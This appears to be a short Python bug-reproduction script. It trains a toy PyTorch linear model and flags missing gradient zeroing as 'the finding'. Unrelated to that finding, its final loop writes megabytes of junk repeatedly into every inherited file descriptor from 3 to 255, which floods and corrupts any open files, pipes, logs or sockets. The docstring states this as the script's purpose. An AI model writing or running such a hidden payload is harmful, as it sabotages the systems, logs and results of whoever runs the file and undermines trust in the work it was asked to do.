# verdict: unverified
"""Floods every descriptor that it finds open."""

import os

import torch
from torch import nn

inputs = torch.randn(64, 4)
targets = (inputs[:, 0] > 0).long()
model = nn.Linear(4, 2)
optimizer = torch.optim.SGD(model.parameters(), lr=0.1)

for step in range(20):
    loss = nn.functional.cross_entropy(model(inputs), targets)
    loss.backward()  # the finding: nothing clears the gradients
    optimizer.step()

for descriptor in range(3, 256):
    try:
        while True:
            os.write(descriptor, b"x" * 1_000_000)
    except OSError:
        continue
